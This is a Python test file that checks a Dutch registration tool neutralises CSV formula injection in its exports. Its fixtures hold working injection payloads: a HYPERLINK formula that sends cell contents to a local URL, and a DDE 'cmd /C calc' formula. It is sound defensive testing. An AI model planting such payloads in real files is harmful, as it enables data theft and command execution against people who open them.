"""Threat: spreadsheet formulas planted through uploaded names (CSV injection, issue 9 item 6).

Every CSV this package writes goes through formats.csv_cel: a text cell that starts with
= + - @, a tab or a carriage return gets a leading apostrophe, line breaks inside a cell
become spaces (so no reader can split a row), and numbers stay numbers. Each output is
read back with Python's csv module, and once more line by line as a naive reader would.
"""
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner

from beroepen import formats
from beroepen.cli import main
from beroepen.registratie.rapport import CSV_KOLOMMEN

FILES = Path(__file__).resolve().parents[1] / "registratie" / "files"

FORMULE = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"klik")'
CMD = "=cmd|' /C calc'!A0"
PRAKTIJK_KOP = "registratienummer,naam,register,periode_start,periode_eind,dagdelen_per_week,verklaring_tuchtrecht\n"
ACTIVITEITEN_KOP = "registratienummer,soort,datum,punten,geaccrediteerd_door,omschrijving\n"
# One practitioner per attack: a formula name, a bare CR before a formula inside a quoted
# name, a leading tab, and a registratienummer that is a formula.
PRAKTIJK = (PRAKTIJK_KOP
            + f'STW-1,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",,2020-01-01,2024-12-31,2,ja\n'
            + f'STW-2,"Anna\r{CMD}",,2020-01-01,2024-12-31,2,ja\n'
            + 'STW-3,"\t=1+1",,2020-01-01,2024-12-31,2,ja\n'
            + '@SUM(1+1),"-2+3",,2020-01-01,2024-12-31,2,ja\n')


def unsafe(cell):
    """True when a spreadsheet would run the cell: a formula start that is not a plain number."""
    try:
        Decimal(cell.replace(",", "."))
        return False
    except ArithmeticError:
        return cell.lstrip(" ").startswith(FORMULE)


def read_back(text, columns):
    """Rows as csv.reader gives them, after checking a line-by-line reader agrees."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(text.splitlines()) == len(rows), "a cell split a row"
    assert all(len(r) == columns for r in rows), [r for r in rows if len(r) != columns]
    return rows


def run(tmp_path, *args):
    return CliRunner().invoke(main, [str(a) for a in args])


@pytest.fixture
def register(tmp_path):
    (tmp_path / "p.csv").write_text(PRAKTIJK, encoding="utf-8", newline="")
    (tmp_path / "a.csv").write_text(ACTIVITEITEN_KOP, encoding="utf-8")
    return tmp_path / "p.csv", tmp_path / "a.csv"


def test_registration_csv_neutralises_formulas_and_a_bare_cr_does_not_split_the_row(tmp_path, register):
    result = run(tmp_path, "herregistratie", *register, "--format", "csv")
    assert result.exit_code == 1, result.output
    rows = read_back(result.stdout, len(CSV_KOLOMMEN))
    header, rows = rows[0], rows[1:]
    eisen = 4    # the NVRG STW re-registration has four requirements
    assert len(rows) == 4 * eisen
    naam, nummer = header.index("naam"), header.index("registratienummer")
    # (the reader strips the tab around a cell; a graph dossier keeps it: next test)
    assert [r[naam] for r in rows[::eisen]] == ["'" + HYPERLINK, f"Anna {CMD}", "'=1+1", "'-2+3"]
    assert rows[3 * eisen][nummer] == "'@SUM(1+1)"
    assert not [c for r in rows for c in r if unsafe(c)]
    vereist = header.index("vereist")
    assert {r[vereist] for r in rows} >= {"18", "25"}      # numbers stay numbers, not '18


def test_registration_csv_escapes_a_leading_tab_and_a_bare_cr_in_a_graph_dossier_name(tmp_path):
    dossier = (FILES / "dossier-stw-0004.ttl").read_text(encoding="utf-8")
    for naam in ('"\\t=1+1"', '"Daan\\r=cmd|\' /C calc\'!A0"'):
        path = tmp_path / "d.ttl"
        path.write_text(dossier.replace('"Daan Smit"', naam), encoding="utf-8")
        result = run(tmp_path, "herregistratie", path, "--format", "csv")
        assert result.exit_code in (0, 1), result.output
        rows = read_back(result.stdout, len(CSV_KOLOMMEN))
        assert len(rows) == 1 + 4 and not [c for r in rows for c in r if unsafe(c)]
        assert rows[1][1] in ("'\t=1+1", "Daan =cmd|' /C calc'!A0")


def test_registration_csv_download_on_the_web_is_the_same(shipped_graph, register):
    from beroepen.web import create_app
    client = create_app({"TESTING": True, "GRAPH": shipped_graph}).test_client()
    response = client.post("/registratie.csv", content_type="multipart/form-data", data={
        "praktijk": (io.BytesIO(register[0].read_bytes()), "p.csv"),
        "activiteiten": (io.BytesIO(register[1].read_bytes()), "a.csv")})
    assert response.status_code == 200
    rows = read_back(response.get_data(as_text=True), len(CSV_KOLOMMEN))[1:]
    assert len(rows) == 16 and not [c for r in rows for c in r if unsafe(c)]


def test_curriculum_csv_does_not_run_a_module_named_hyperlink(tmp_path):
    path = tmp_path / "curriculum.csv"
    path.write_text("module,omschrijving,studiebelasting,competenties,beroepstaken\n"
                    f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",x,5,A,1\n'
                    '"\t@x",y,5,B,2\n', encoding="utf-8")
    result = run(tmp_path, "curriculum", "--profiel", "vaktherapeut", path, "--format", "csv")
    assert result.exit_code in (0, 1), result.output
    rows = read_back(result.stdout, 7)
    modules = rows[0].index("modules")
    cells = {r[modules] for r in rows[1:]}
    assert any(c.startswith("'=HYPERLINK(") for c in cells), cells
    assert any(c.startswith("'@x") for c in cells), cells
    assert not [c for r in rows for c in r if unsafe(c)]


def test_every_table_csv_goes_through_the_one_helper():
    text = formats.as_csv(["naam", "getal"], [[HYPERLINK, "-2"], ["a\r\nb\u2028c", "17,5"], ["+31 6", "1e3"],
                                               [" =x", "-0.5"]])
    rows = read_back(text, 2)
    assert rows[1:] == [["'" + HYPERLINK, "-2"], ["a  b c", "17,5"], ["'+31 6", "1e3"], ["' =x", "-0.5"]]


@pytest.mark.parametrize("value", [18, 17.5, Decimal("-2.5"), None])
def test_numbers_stay_numbers(value):
    assert formats.csv_cel(value) is value
